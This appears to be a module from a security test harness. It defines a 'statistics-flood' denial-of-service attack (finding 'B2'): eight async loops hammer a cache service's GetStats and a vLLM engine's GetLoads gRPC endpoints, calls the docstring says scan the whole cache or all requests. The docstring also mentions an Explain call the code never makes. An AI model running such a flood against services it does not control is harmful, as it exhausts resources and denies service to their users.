"""A client that calls GetStats, GetLoads and Explain in loops. Each call scans the cache or all requests."""

from __future__ import annotations

import asyncio
import time

from smg_grpc_proto.generated import vllm_engine_pb2, vllm_engine_pb2_grpc

from octavo.proto import cache_pb2

from ..attack import Attack, Seen, Target, count

CALLERS = 8


async def attack(target: Target, seen: Seen) -> None:
    end = time.monotonic() + target.seconds

    async def loop() -> None:
        async with target.channel() as channel, target.cache() as cache:
            vllm = vllm_engine_pb2_grpc.VllmEngineStub(channel)
            while time.monotonic() < end:
                request = cache_pb2.GetStatsRequest(num_prefixes=1000)
                await count(seen, cache.GetStats(request, metadata=target.metadata, timeout=20))
                loads = vllm_engine_pb2.GetLoadsRequest()
                await count(seen, vllm.GetLoads(loads, metadata=target.metadata, timeout=20))
                await asyncio.sleep(0.002)

    await asyncio.gather(*(loop() for _ in range(CALLERS)))


ATTACK = Attack(name="statistics-flood", finding="B2", run=attack)
